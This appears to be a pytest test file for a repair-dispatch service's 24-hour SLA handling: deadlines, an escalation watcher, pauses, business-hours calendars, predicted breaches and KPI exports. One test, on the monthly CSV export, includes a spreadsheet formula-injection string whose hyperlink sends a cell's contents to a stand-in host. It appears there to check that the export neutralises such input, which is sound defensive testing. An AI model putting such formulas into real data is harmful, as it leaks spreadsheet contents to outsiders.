"""The 24-hour promise, enforced: policies, states from the clock, the watcher, no-shows,
pauses, predicted breaches, escalations and KPIs. Time moves with the frozen clock; nothing
sleeps."""

from __future__ import annotations

import csv
import io
import threading
import time as time_module
from datetime import UTC, date, datetime, time, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from support.api import job_body
from support.database import PG_URL
from support.moments import T0, iso
from support.workflow import add_outlet, assign, assigned_job, event_types, events_of, tap

from dispatch.app import create_app
from dispatch.config import Settings
from dispatch.database.core import Database, make_engine
from dispatch.events.models import JobEvent
from dispatch.jobs.models import Job
from dispatch.sla import states as sla_clock
from dispatch.sla import watcher
from dispatch.sla.calendar import BusinessHours, add_working_time, working_time_between
from dispatch.sla.models import SlaCheckpoint
from dispatch.sla.states import SlaState


def watch(api, settings=None):  # type: ignore[no-untyped-def]
    return watcher.run_pass(api.database, api.clock.now, settings or Settings())


def sla_events(api, job):  # type: ignore[no-untyped-def]
    """The types of the job's SLA events (warnings, breaches, pauses...), oldest first."""
    return [t for t in event_types(api, job) if t.startswith("sla_")]


# --- policies ------------------------------------------------------------------------------


def test_a_standard_job_must_be_complete_within_24_hours_of_the_report(api):
    job = api.job(reported_at=(T0 - timedelta(hours=1)).isoformat())
    sla = job["sla"]
    assert sla["policy"] == "standard"
    assert sla["due_at"] == iso(T0 + timedelta(hours=23))
    assert [d["deadline"] for d in sla["deadlines"]] == ["completion"]
    assert sla["next_deadline"] == "completion" and sla["state"] == "on_track"
    assert sla["time_left_seconds"] == 23 * 3600


def test_an_express_job_carries_an_arrival_deadline_of_two_hours_and_races_it_first(api):
    job = api.job(service_tier="express")
    sla = job["sla"]
    assert sla["policy"] == "express"
    assert [(d["deadline"], d["outcome"]) for d in sla["deadlines"]] == [
        ("arrival", "pending"),
        ("completion", "pending"),
    ]
    assert sla["next_deadline"] == "arrival"
    assert sla["time_left_seconds"] == 2 * 3600


def test_emergencies_come_first_in_the_at_risk_queue_even_when_others_are_later(api):
    late_standard = api.job(reported_at=(T0 - timedelta(hours=23)).isoformat())
    emergency = api.job(priority="emergency")
    api.clock.advance(hours=1, minutes=30)  # the emergency is at 75 % of its 2 h arrival target
    items = api.get("/v1/sla/at-risk").json()["items"]
    assert [i["job_id"] for i in items] == [emergency["id"], late_standard["id"]]
    assert items[0]["deadline"] == "arrival" and items[0]["reasons"] == ["time_elapsed"]
    assert items[1]["state"] == "breached" and items[1]["time_left_seconds"] == -30 * 60
    assert items[1]["reasons"] == ["deadline_passed"]


def test_an_admin_edits_a_policy_and_only_jobs_received_after_get_the_new_targets(api):
    before = api.job()
    r = api.client.put(
        "/v1/sla/policies/standard",
        headers=api.headers("admin"),
        json={
            "arrival_hours": 4,
            "completion_hours": 12,
            "at_risk_ratio": 0.5,
            "warnings": [{"ratio": 0.25, "notify": "technician"}],
            "pause_reasons": ["customer_unreachable"],
        },
    )
    assert r.status_code == 200, r.text
    assert r.json()["updated_by"].startswith("admin")
    after = api.job()
    assert before["sla"]["due_at"] != after["sla"]["due_at"]
    assert after["sla"]["time_left_seconds"] == 4 * 3600  # the new arrival target
    assert api.get(f"/v1/jobs/{before['id']}").json()["sla"]["due_at"] == before["sla"]["due_at"]
    bad = api.client.put(
        "/v1/sla/policies/standard", headers=api.headers("admin"), json={"arrival_hours": 30, "completion_hours": 12}
    )
    assert bad.status_code == 422 and bad.json()["code"] == "invalid-policy"
    assert (
        api.client.put(
            "/v1/sla/policies/platinum", headers=api.headers("admin"), json={"completion_hours": 1}
        ).status_code
        == 422
    )


# --- states from the clock -----------------------------------------------------------------


def test_a_job_goes_at_risk_at_75_percent_and_breached_at_the_deadline_by_the_clock_alone(api):
    job = api.job()
    states = []
    for hours in (17, 1, 5, 1):  # 17 h, 18 h (75 %), 23 h, 24 h
        api.clock.advance(hours=hours)
        states.append(api.get(f"/v1/jobs/{job['id']}").json()["sla"]["state"])
    assert states == ["on_track", "at_risk", "at_risk", "breached"]


def test_the_sql_filter_and_the_job_agree_on_every_state(api):
    tech = api.technician(capacity=20)
    phone = api.as_technician(tech["id"])
    jobs = [
        api.job(reported_at=(T0 - timedelta(hours=h)).isoformat(), service_tier=tier)
        for h in (0, 10, 19, 25)
        for tier in ("standard", "express")
    ]
    assign(api, jobs[0], tech)
    tap(api, jobs[0], "on_site", phone=phone)
    tap(api, jobs[0], "completed", phone=phone)
    tap(api, jobs[1], "cancelled", at=T0)
    api.clock.advance(hours=1)
    for state in SlaState:
        listed = {j["id"] for j in api.get("/v1/jobs", params={"sla_state": state.value, "limit": 100}).json()["items"]}
        read = {j["id"] for j in jobs if api.get(f"/v1/jobs/{j['id']}").json()["sla"]["state"] == state.value}
        assert listed == read, state


def test_arriving_late_misses_the_arrival_target_for_good(api):
    tech, job, phone = assigned_job(api, service_tier="express")
    api.clock.advance(hours=2, minutes=10)
    tap(api, job, "en_route", phone=phone)
    body = tap(api, job, "on_site", phone=phone)
    assert body["sla"]["deadlines"][0]["outcome"] == "missed"
    assert body["sla"]["state"] == "breached" and "arrival_missed" in body["sla"]["reasons"]
    assert body["sla"]["next_deadline"] == "completion"
    done = tap(api, job, "completed", phone=phone)
    assert done["sla"]["state"] == "missed"  # on time for completion, but the arrival was missed
    assert "sla_arrival_missed" in event_types(api, job)


def test_arriving_in_time_then_finishing_in_time_meets_the_promise(api):
    tech, job, phone = assigned_job(api, service_tier="express")
    api.clock.advance(hours=1)
    body = tap(api, job, "on_site", phone=phone)
    assert body["sla"]["deadlines"][0]["outcome"] == "met" and body["sla"]["state"] == "on_track"
    api.clock.advance(hours=3)
    assert tap(api, job, "completed", phone=phone)["sla"]["state"] == "met"


# --- the watcher ---------------------------------------------------------------------------


def test_the_watcher_records_each_warning_at_risk_and_breach_once_at_the_moment_it_happened(api):
    job = api.job()
    api.clock.advance(hours=13)
    assert watch(api).fired == 1  # 50 %: the technician's warning
    api.clock.advance(hours=12)
    assert watch(api).fired == 2  # at risk (18 h) and breached (24 h), caught up in one pass
    assert watch(api).fired == 0  # and never again
    assert watch(api).fired == 0
    fired = [
        (e["type"], e["occurred_at"], e["data"]["notify"]) for e in events_of(api, job) if e["type"].startswith("sla_")
    ]
    stamp = lambda h: iso(T0 + timedelta(hours=h))
    assert fired == [
        ("sla_warning", stamp(12), "technician"),
        ("sla_at_risk", stamp(18), "dispatcher"),
        ("sla_breached", stamp(24), "supervisor"),
    ]


def test_a_watcher_that_was_down_catches_up_on_start_with_a_new_connection(api, settings):
    jobs = [api.job() for _ in range(3)]
    api.clock.advance(days=3)  # nobody watched for three days
    fresh = Database(make_engine(settings))  # as a restarted process would
    try:
        result = watcher.run_pass(fresh, api.clock.now, Settings())
    finally:
        fresh.dispose()
    assert result.fired == 9
    for job in jobs:
        assert sla_events(api, job) == [
            "sla_warning",
            "sla_at_risk",
            "sla_breached",
        ]


def test_meeting_a_deadline_makes_its_checkpoints_moot(api):
    tech, job, phone = assigned_job(api, service_tier="express")
    tap(api, job, "on_site", phone=phone)
    tap(api, job, "completed", phone=phone)
    api.clock.advance(days=2)
    assert watch(api).fired == 0
    assert not sla_events(api, job)


def test_a_job_fixed_late_before_the_watcher_passed_still_records_its_breach_once(api):
    tech, job, phone = assigned_job(api)
    api.clock.advance(hours=25)  # the watcher was down all day
    tap(api, job, "on_site", phone=phone)
    tap(api, job, "completed", phone=phone)
    fired = [(e["type"], e["occurred_at"]) for e in events_of(api, job) if e["type"].startswith("sla_")]
    stamp = lambda h: iso(T0 + timedelta(hours=h))
    assert fired == [("sla_warning", stamp(12)), ("sla_at_risk", stamp(18)), ("sla_breached", stamp(24))]
    assert watch(api).fired == 0  # and not again when the watcher comes back
    escalations = api.get("/v1/sla/escalations", who="supervisor").json()["items"]
    assert [e["job_id"] for e in escalations] == [job["id"]]


def test_a_job_fixed_in_time_while_the_watcher_was_down_fires_nothing_late(api):
    tech, job, phone = assigned_job(api)
    api.clock.advance(hours=11)
    tap(api, job, "on_site", phone=phone)
    api.clock.advance(hours=5)  # the phone was offline: the completion at 11 h 30 arrives at 16 h
    tap(api, job, "completed", phone=phone, at=T0 + timedelta(hours=11, minutes=30))
    assert sla_events(api, job) == []
    assert api.get(f"/v1/jobs/{job['id']}").json()["sla"]["state"] == "met"
    assert watch(api).fired == 0


def test_a_cancellation_after_the_deadline_keeps_the_breach_the_customer_lived_through(api):
    job = api.job()
    api.clock.advance(hours=30)
    tap(api, job, "cancelled")  # by the dispatcher
    assert events_of(api, job, "sla_breached")[0]["occurred_at"] == iso(T0 + timedelta(hours=24))


def test_a_return_visit_after_the_deadline_is_one_breach_fired_at_once_and_never_again(api):
    tech, job, phone = assigned_job(api)
    tap(api, job, "on_site", phone=phone)
    api.clock.advance(hours=2)
    tap(api, job, "completed", phone=phone)  # met, so its warnings and breach are moot
    api.clock.advance(hours=28)  # the fault comes back on day two
    assert watch(api).fired == 0
    reopened_at = api.clock.now()
    r = api.post(f"/v1/jobs/{job['id']}/return-visits", {"reason": "fault_returned"})
    assert r.status_code == 201, r.text
    assert r.json()["job"]["sla"]["state"] == "breached"
    assert watch(api).fired == 1
    assert watch(api).fired == 0
    breaches = events_of(api, job, "sla_breached")
    assert [(e["occurred_at"], e["data"]["notify"]) for e in breaches] == [(iso(reopened_at), "supervisor")]
    assert sla_events(api, job) == ["sla_breached"]
    # The second fix ends the race; nothing else fires.
    tap(api, job, "on_site", phone=phone)
    tap(api, job, "completed", phone=phone)
    api.clock.advance(days=2)
    assert watch(api).fired == 0


def test_a_return_visit_before_the_deadline_races_it_again_with_its_checkpoints_on_time(api):
    tech, job, phone = assigned_job(api)
    tap(api, job, "on_site", phone=phone)
    api.clock.advance(hours=1)
    tap(api, job, "completed", phone=phone)
    api.clock.advance(hours=14)  # 15 h after the report, past the 50 % warning while it was fixed
    assert api.post(f"/v1/jobs/{job['id']}/return-visits", {"reason": "callback_not_fixed"}).status_code == 201
    assert watch(api).fired == 1  # the highest level passed (the warning), at once
    api.clock.advance(hours=3)  # 18 h: 75 %
    assert watch(api).fired == 1
    assert sla_events(api, job) == ["sla_warning", "sla_at_risk"]
    tap(api, job, "on_site", phone=phone)
    tap(api, job, "completed", phone=phone)
    api.clock.advance(days=1)
    assert watch(api).fired == 0  # fixed in time: the breach is moot again


def test_a_breach_lands_in_the_supervisors_queue_until_acknowledged(api):
    job = api.job()
    api.clock.advance(hours=25)
    watch(api)
    queue = api.get("/v1/sla/escalations", who="supervisor").json()["items"]
    assert [(e["job_id"], e["level"], e["deadline"]) for e in queue] == [(job["id"], "breached", "completion")]
    dispatcher_queue = api.get("/v1/sla/escalations", who="supervisor", params={"notify": "dispatcher"}).json()["items"]
    assert [e["level"] for e in dispatcher_queue] == ["at_risk"]
    r = api.post(f"/v1/sla/escalations/{queue[0]['id']}/acknowledge", {"note": "called the customer"}, who="supervisor")
    assert r.status_code == 200 and r.json()["acknowledged_by"].startswith("supervisor")
    assert api.get("/v1/sla/escalations", who="supervisor").json()["items"] == []
    again = api.post(f"/v1/sla/escalations/{queue[0]['id']}/acknowledge", {}, who="supervisor")
    assert again.status_code == 409 and again.json()["code"] == "already-acknowledged"
    assert api.post("/v1/sla/escalations/999/acknowledge", {}, who="supervisor").status_code == 404
    assert "sla_escalation_acknowledged" in event_types(api, job)


def test_two_watchers_racing_record_every_checkpoint_exactly_once(api, settings):
    for _ in range(40):
        api.job(service_tier="express")
    api.clock.advance(days=2)
    with api.database.session(write=False) as session:
        pending = watcher.pending_count(session)
    assert pending == 40 * 6  # express: warning, at risk, breached for arrival and for completion
    results, errors = [], []
    barrier = threading.Barrier(4)

    def run() -> None:
        db = Database(make_engine(settings))
        try:
            barrier.wait()
            for _ in range(3):
                results.append(watcher.run_pass(db, api.clock.now, Settings()).fired)
        except Exception as exc:
            errors.append(exc)
        finally:
            db.dispose()

    threads = [threading.Thread(target=run) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert sum(results) == pending
    with api.database.session(write=False) as session:
        recorded = [
            e.data["checkpoint_id"] for e in session.scalars(select(JobEvent).where(JobEvent.type.like("sla_%")))
        ]
        assert len(recorded) == pending and len(set(recorded)) == pending  # each once, none missed
        assert (
            session.scalar(select(func.count()).select_from(SlaCheckpoint).where(SlaCheckpoint.fired_at.is_(None))) == 0
        )


# --- no-shows ------------------------------------------------------------------------------


def test_an_appointment_that_ends_with_nobody_on_site_is_a_no_show_the_dispatcher_hears_of(api):
    start = T0 + timedelta(hours=2)
    _, job, _ = assigned_job(
        api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()}
    )
    api.clock.advance(hours=4, minutes=1)
    body = api.get(f"/v1/jobs/{job['id']}").json()
    assert body["sla"]["state"] == "at_risk" and body["sla"]["reasons"] == ["no_show"]
    assert watch(api).fired == 1
    no_show = events_of(api, job, "sla_no_show")
    assert len(no_show) == 1 and no_show[0]["data"]["notify"] == "dispatcher"
    assert job["id"] in [i["job_id"] for i in api.get("/v1/sla/at-risk").json()["items"]]


def test_a_technician_on_site_within_the_window_is_no_no_show(api):
    start = T0 + timedelta(hours=1)
    tech, job, phone = assigned_job(
        api, appointment={"start": start.isoformat(), "end": (start + timedelta(hours=2)).isoformat()}
    )
    api.clock.advance(hours=2)
    tap(api, job, "on_site", phone=phone)
    api.clock.advance(hours=2)
    watch(api)
    assert not events_of(api, job, "sla_no_show")
    assert api.get(f"/v1/jobs/{job['id']}").json()["sla"]["state"] == "on_track"


# --- pauses --------------------------------------------------------------------------------


def test_a_customer_who_asks_for_a_later_visit_stops_the_clock_and_the_deadline_moves_on(api):
    job = api.job()
    api.clock.advance(hours=10)
    r = api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "customer_requested_later", "note": "away until Friday"})
    assert r.status_code == 200, r.text
    assert r.json()["sla"]["paused_since"] is not None
    api.clock.advance(hours=30)  # past the original deadline, but paused
    paused = api.get(f"/v1/jobs/{job['id']}").json()["sla"]
    assert paused["state"] == "on_track" and paused["time_left_seconds"] == 14 * 3600
    assert watch(api).fired == 0  # nothing fires while the clock is stopped
    resumed = api.post(f"/v1/jobs/{job['id']}/sla/resume").json()["sla"]
    assert resumed["due_at"] == iso(T0 + timedelta(hours=54))
    assert resumed["time_left_seconds"] == 14 * 3600 and resumed["paused_since"] is None
    api.clock.advance(hours=5)
    assert watch(api).fired == 1  # the warning, at 12 h of counted time (10 + 2 after the pause)
    assert sla_events(api, job) == ["sla_paused", "sla_resumed", "sla_warning"]


def test_only_reasons_the_policy_allows_can_stop_the_clock(api):
    emergency = api.job(priority="emergency")
    r = api.post(f"/v1/jobs/{emergency['id']}/sla/pause", {"reason": "customer_unreachable"})
    assert r.status_code == 422 and r.json()["code"] == "pause-not-allowed"
    job = api.job()
    assert api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "waiting_for_parts"}).status_code == 422
    assert api.post(f"/v1/jobs/{job['id']}/sla/resume").json()["code"] == "not-paused"
    api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "customer_unreachable"})
    again = api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "customer_unreachable"})
    assert again.status_code == 409 and again.json()["code"] == "already-paused"


def test_news_from_the_technician_ends_a_pause_and_the_time_went_to_the_customer(api):
    tech, job, phone = assigned_job(api)
    api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "customer_unreachable"})
    api.clock.advance(hours=3)
    body = tap(api, job, "en_route", phone=phone)
    assert body["sla"]["paused_since"] is None
    assert body["sla"]["due_at"] == iso(T0 + timedelta(hours=27))
    with api.database.session(write=False) as session:
        row = session.get(Job, job["id"])
        assert row.seconds_customer == 3 * 3600 and row.seconds_assigned == 0


def test_a_job_completed_while_paused_is_held_against_its_moved_deadline(api):
    tech, job, phone = assigned_job(api)
    api.clock.advance(hours=1)
    tap(api, job, "on_site", phone=phone)
    api.post(f"/v1/jobs/{job['id']}/sla/pause", {"reason": "customer_requested_later", "note": "back on Friday"})
    api.clock.advance(hours=30)  # the customer is back; the fix takes no time at all
    body = tap(api, job, "completed", phone=phone)
    assert body["sla"]["due_at"] == iso(T0 + timedelta(hours=54))
    assert body["sla"]["state"] == "met", body["sla"]
    assert sla_events(api, job) == ["sla_paused", "sla_resumed"]


# --- business hours ------------------------------------------------------------------------

WARSAW_OFFICE = BusinessHours(
    timezone="Europe/Warsaw",
    days="12345",
    opens=time(8),
    closes=time(16),
    breaks=((time(12), time(12, 30)),),
    holidays=frozenset({date(2026, 3, 30)}),
)


def test_working_time_skips_nights_weekends_breaks_and_holidays():
    friday_3pm = datetime(2026, 3, 27, 14, 0, tzinfo=UTC)  # 15:00 in Warsaw (CET)
    # 1 h on Friday, the weekend, Monday is a holiday, then Tuesday 08:00 (CEST since Sunday) + 3 h.
    due = add_working_time(friday_3pm, timedelta(hours=4), WARSAW_OFFICE)
    assert due == datetime(2026, 3, 31, 9, 0, tzinfo=UTC)  # 11:00 local, summer time
    assert working_time_between(friday_3pm, due, WARSAW_OFFICE) == timedelta(hours=4)
    # Across the lunch break: 11:30 + 1 h = 13:00.
    tuesday = datetime(2026, 3, 31, 9, 30, tzinfo=UTC)
    assert add_working_time(tuesday, timedelta(hours=1), WARSAW_OFFICE) == datetime(2026, 3, 31, 11, 0, tzinfo=UTC)


def test_a_contract_on_business_hours_gives_deadlines_on_its_calendar(api):
    r = api.client.put(
        "/v1/sla/policies/standard",
        headers=api.headers("admin"),
        json={
            "arrival_hours": None,
            "completion_hours": 8,
            "at_risk_ratio": 0.75,
            "business_hours": {"timezone": "Europe/Warsaw", "days": "12345", "opens": "08:00", "closes": "16:00"},
            "pause_reasons": ["customer_requested_later"],
        },
    )
    assert r.status_code == 200, r.text
    # T0 is Tuesday 10:00 in Warsaw: 6 h left that day, 2 h on Wednesday.
    job = api.job()
    assert job["sla"]["due_at"] == "2026-03-11T09:00:00Z"
    bad = api.client.put(
        "/v1/sla/policies/standard",
        headers=api.headers("admin"),
        json={
            "completion_hours": 8,
            "business_hours": {"timezone": "Europe/Warsaw", "days": "12345", "opens": "16:00", "closes": "08:00"},
        },
    )
    assert bad.status_code == 422
    for zone in ("Mars/Olympus", "0", "Europe"):
        r = api.client.put(
            "/v1/sla/policies/standard",
            headers=api.headers("admin"),
            json={
                "completion_hours": 8,
                "business_hours": {"timezone": zone, "days": "12345", "opens": "08:00", "closes": "16:00"},
            },
        )
        assert r.status_code == 422, zone


def test_targets_that_do_not_fit_the_calendar_are_refused_so_intake_keeps_working(api):
    one_minute_on_mondays = {"timezone": "Europe/Warsaw", "days": "1", "opens": "09:00", "closes": "09:01"}
    r = api.client.put(
        "/v1/sla/policies/standard",
        headers=api.headers("admin"),
        json={"arrival_hours": None, "completion_hours": 720, "business_hours": one_minute_on_mondays},
    )
    assert r.status_code == 422 and r.json()["code"] == "invalid-policy", r.text
    assert {p["name"]: p["business_hours"] for p in api.get("/v1/sla/policies").json()}[
        "standard"
    ] is None  # nothing saved
    assert api.post("/v1/jobs", job_body()).status_code == 201


# --- predicted breaches --------------------------------------------------------------------


def test_a_technician_with_more_work_than_time_left_puts_the_last_jobs_at_risk(api):
    tech = api.technician(capacity=20)
    jobs = []
    for _ in range(4):
        job = api.job(reported_at=(T0 - timedelta(hours=20)).isoformat())  # 4 h left each
        assign(api, job, tech)
        jobs.append(job)
    result = watch(api, Settings(sla_hours_per_job=1.5))
    assert result.predicted == 2  # 1.5 h, 3 h fit in 4 h; 4.5 h and 6 h do not
    predicted = [api.get(f"/v1/jobs/{j['id']}").json()["sla"]["predicted_breach"] for j in jobs]
    assert predicted == [None, None, "technician_overloaded", "technician_overloaded"]
    assert events_of(api, jobs[3], "breach_predicted")[0]["data"]["reason"] == "technician_overloaded"
    # One job is cancelled: the rest fit again and the prediction is withdrawn.
    tap(api, jobs[0], "cancelled", at=T0)
    assert watch(api, Settings(sla_hours_per_job=1.5)).cleared == 1
    assert watch(api, Settings(sla_hours_per_job=1.5)).predicted == 0  # nothing twice


def test_a_technician_whose_shift_ends_before_the_work_is_done_puts_it_at_risk(api):
    # 10:00 in Warsaw; 4 h left on the job, but this shift ends at 11:00 and the next starts tomorrow.
    ending = api.technician(capacity=5, shift={"start": "07:00", "end": "11:00", "timezone": "Europe/Warsaw"})
    all_day = api.technician(capacity=5)
    late, fine = (api.job(reported_at=(T0 - timedelta(hours=20)).isoformat()) for _ in range(2))
    assign(api, late, ending)
    assign(api, fine, all_day)
    assert watch(api, Settings(sla_hours_per_job=1.5)).predicted == 1
    assert api.get(f"/v1/jobs/{late['id']}").json()["sla"]["predicted_breach"] == "technician_overloaded"
    assert api.get(f"/v1/jobs/{fine['id']}").json()["sla"]["predicted_breach"] is None


def test_an_express_job_nobody_can_reach_in_time_is_flagged_at_once(api):
    api.technician(lat=50.0647, lon=19.9450)  # Kraków: about 250 km from the Warsaw customer
    job = api.job(service_tier="express")
    watch(api, Settings(sla_travel_speed_kmh=60))
    body = api.get(f"/v1/jobs/{job['id']}").json()
    assert body["sla"]["state"] == "at_risk" and body["sla"]["predicted_breach"] == "cannot_arrive_in_time"
    near = api.job(service_tier="express", customer={"lat": 50.06, "lon": 19.94, "address": "Rynek 1, Kraków"})
    watch(api, Settings(sla_travel_speed_kmh=60))
    assert api.get(f"/v1/jobs/{near['id']}").json()["sla"]["predicted_breach"] is None


def test_a_prediction_of_the_parts_domain_is_never_overwritten_by_the_watcher(api):
    tech = api.technician(capacity=20)
    job = api.job(reported_at=(T0 - timedelta(hours=23)).isoformat())
    assign(api, job, tech)
    with api.database.transaction() as session:
        session.get(Job, job["id"]).predicted_breach = "parts_eta_after_due"
    watch(api, Settings(sla_hours_per_job=2))
    assert api.get(f"/v1/jobs/{job['id']}").json()["sla"]["predicted_breach"] == "parts_eta_after_due"


# --- KPIs ----------------------------------------------------------------------------------


def test_kpis_count_the_24_hour_rate_compliance_and_where_the_time_went(api):
    tech = api.technician(capacity=20, home_branch="WAW")
    phone = api.as_technician(tech["id"])
    fast = api.job()
    api.clock.advance(hours=1)
    assign(api, fast, tech)  # 1 h waiting for dispatch
    api.clock.advance(minutes=30)
    tap(api, fast, "en_route", phone=phone)  # 30 min assigned
    api.clock.advance(minutes=30)
    tap(api, fast, "on_site", phone=phone)  # 30 min travelling
    api.clock.advance(hours=1)
    tap(api, fast, "completed", phone=phone)  # 1 h on site; 3 h in all
    slow = api.job(service_tier="express")
    assign(api, slow, tech)
    api.clock.advance(hours=26)
    tap(api, slow, "on_site", phone=phone)
    tap(api, slow, "completed", phone=phone)  # 26 h: missed arrival and completion
    cancelled = api.job()
    tap(api, cancelled, "cancelled")
    api.job(product={"category": "fridge"})  # still open, just reported

    r = api.get("/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01"})
    assert r.status_code == 200, r.text
    (row,) = r.json()["rows"]
    assert (row["jobs"], row["cancelled"], row["open"], row["completed"], row["completed_within_24h"]) == (
        4,
        1,
        1,
        2,
        1,
    )
    assert row["completion_rate_24h"] == pytest.approx(1 / 3, abs=1e-4)
    assert row["mean_hours_to_complete"] == 14.5 and row["p90_hours_to_complete"] == 26
    compliance = {(c["policy"], c["deadline"]): (c["met"], c["missed"]) for c in row["sla_compliance"]}
    assert compliance == {
        ("standard", "completion"): (1, 0),
        ("express", "completion"): (0, 1),
        ("express", "arrival"): (0, 1),
    }
    assert row["hours"]["dispatch"] == 1 and row["hours"]["assigned"] == 26.5
    assert row["hours"]["travel"] == 0.5 and row["hours"]["on_site"] == 1

    by_category = api.get(
        "/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01", "group_by": "category"}
    ).json()["rows"]
    assert {(r["group"], r["jobs"]) for r in by_category} == {("washing machine", 3), ("fridge", 1)}
    by_branch = api.get(
        "/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01", "group_by": "branch"}
    ).json()["rows"]
    assert {(r["group"], r["completed"]) for r in by_branch} == {("WAW", 2), (None, 0)}
    daily = api.get(
        "/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01", "interval": "day"}
    ).json()["rows"]
    assert [(r["period"], r["jobs"]) for r in daily] == [("2026-03-10", 2), ("2026-03-11", 2)]


def test_the_monthly_review_gets_a_csv(api):
    api.job()
    r = api.get("/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01", "format": "csv"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 1 and rows[0]["jobs"] == "1" and "hours_per_job_travel" in rows[0]
    bad = api.get("/v1/metrics", who="supervisor", params={"since": "2026-04-01", "until": "2026-03-01"})
    assert bad.status_code == 422 and bad.json()["code"] == "invalid-period"
    for edge in ({"until": "0001-01-05"}, {"since": "9999-12-31"}):
        r = api.get("/v1/metrics", who="supervisor", params=edge)
        assert r.status_code == 422 and r.json()["code"] == "invalid-period", (edge, r.text)


def test_a_category_typed_as_a_formula_stays_text_in_the_monthly_spreadsheet(api):
    shop = add_outlet(api, "shop-f", "F")
    formula = '=hyperlink("http://x.example/?"&a1,"open")'
    api.job(headers=api.as_outlet(shop["id"]), product={"category": formula})
    api.job(product={"category": "-oven"})
    r = api.get(
        "/v1/metrics",
        who="supervisor",
        params={**{"since": "2026-03-01", "until": "2026-04-01"}, "group_by": "category", "format": "csv"},
    )
    groups = [row["group"] for row in csv.DictReader(io.StringIO(r.text))]
    assert sorted(groups) == sorted(["'" + formula, "'-oven"]), groups


def test_the_python_and_sql_rules_share_one_definition_of_breached():
    job = Job(
        status="assigned",
        next_due_at=T0,
        next_at_risk_at=T0 - timedelta(hours=1),
        due_at=T0,
        at_risk_at=T0,
        arrival_missed=False,
    )
    assert sla_clock.state(job, T0) is SlaState.breached
    assert sla_clock.state(job, T0 - timedelta(minutes=1)) is SlaState.at_risk
    job.paused_at = T0 - timedelta(hours=2)
    assert sla_clock.state(job, T0 + timedelta(days=1)) is SlaState.on_track


@pytest.mark.skipif(not PG_URL, reason="the lock contention is PostgreSQL's")
def test_on_postgresql_a_watcher_skips_a_job_someone_holds_and_fires_it_next_pass(api, settings):
    job = api.job()
    api.clock.advance(hours=25)
    holder = Database(make_engine(settings))
    try:
        with holder.transaction() as session:
            session.execute(select(Job).where(Job.id == job["id"]).with_for_update())
            assert watch(api).fired == 0  # skipped, not blocked
        assert watch(api).fired == 3
    finally:
        holder.dispose()


def test_the_embedded_watcher_runs_inside_the_app_and_catches_up_when_it_starts(api, settings):
    job = api.job()
    api.clock.advance(hours=25)  # the server was down through the whole deadline
    app = create_app(
        settings.model_copy(update={"sla_watcher_in_app": True, "sla_watcher_interval_seconds": 60}),
        clock=api.clock,
        database=api.database,
    )
    with TestClient(app):
        # The first pass starts with the app; wait for it (bounded), the clock does not move.
        for _ in range(200):
            if len(sla_events(api, job)) == 3:
                break
            time_module.sleep(0.05)
    assert sla_events(api, job) == [
        "sla_warning",
        "sla_at_risk",
        "sla_breached",
    ]


def test_dispatch_worker_once_fires_what_is_due_and_a_second_run_finds_nothing(api, monkeypatch):
    from typer.testing import CliRunner

    from dispatch.cli import app as cli

    job = api.job()  # reported at T0, months before the real clock the command uses
    monkeypatch.setenv("DATABASE_URL", api.database.engine.url.render_as_string(hide_password=False))
    first = CliRunner().invoke(cli, ["worker", "--once"])
    assert first.exit_code == 0, first.output
    assert "fired 3" in first.output
    second = CliRunner().invoke(cli, ["worker", "--once"])
    assert "fired 0" in second.output
    assert sla_events(api, job) == [
        "sla_warning",
        "sla_at_risk",
        "sla_breached",
    ]


def test_the_at_risk_queue_pages_through_every_job_once_in_order(api):
    made = [
        api.job(reported_at=(T0 - timedelta(hours=h)).isoformat(), priority=p)
        for h, p in ((20, "normal"), (23, "normal"), (1, "emergency"), (19, "high"), (30, "normal"))
    ]
    api.clock.advance(minutes=31)  # the emergency passes 50 % of its 2 h arrival target
    api.job()  # on track: not listed
    seen, cursor = [], None
    while True:
        page = api.get("/v1/sla/at-risk", params={"limit": 2, **({"cursor": cursor} if cursor else {})}).json()
        seen += [(i["job_id"], i["time_left_seconds"]) for i in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert [job_id for job_id, _ in seen] == [made[i]["id"] for i in (2, 4, 1, 0, 3)]
    assert [left for _, left in seen][1:] == sorted(left for _, left in seen[1:])
    assert api.get("/v1/sla/at-risk", params={"cursor": "bm90LWEtY3Vyc29y"}).status_code == 422
    breached = api.get("/v1/sla/at-risk", params={"breached_only": "true"}).json()["items"]
    assert [i["job_id"] for i in breached] == [made[4]["id"]]


def test_kpis_count_first_time_fixes_return_visits_and_what_customers_said_on_the_phone(api):
    tech = api.technician(capacity=20)
    phone = api.as_technician(tech["id"])
    first_time, came_back = api.job(), api.job()
    for job in (first_time, came_back):
        assign(api, job, tech)
        tap(api, job, "on_site", phone=phone)
        tap(api, job, "completed", phone=phone)
    api.post(f"/v1/jobs/{first_time['id']}/callbacks", {"reached": False})
    api.post(f"/v1/jobs/{first_time['id']}/callbacks", {"reached": True, "fixed": True, "satisfaction": 5})
    r = api.post(f"/v1/jobs/{came_back['id']}/callbacks", {"reached": True, "fixed": False, "satisfaction": 2})
    assert r.status_code in (200, 201), r.text
    r = api.post(f"/v1/jobs/{came_back['id']}/return-visits", {"reason": "callback_not_fixed"})
    assert r.status_code in (200, 201), r.text
    api.job()  # no visit yet: not counted in the fix rates

    (row,) = api.get("/v1/metrics", who="supervisor", params={"since": "2026-03-01", "until": "2026-04-01"}).json()[
        "rows"
    ]
    assert (row["first_time_fix_rate"], row["return_visit_rate"]) == (0.5, 0.5)
    assert (row["callbacks"], row["callback_reach_rate"], row["jobs_reached_by_callback"]) == (
        3,
        pytest.approx(2 / 3, abs=1e-4),
        1.0,
    )
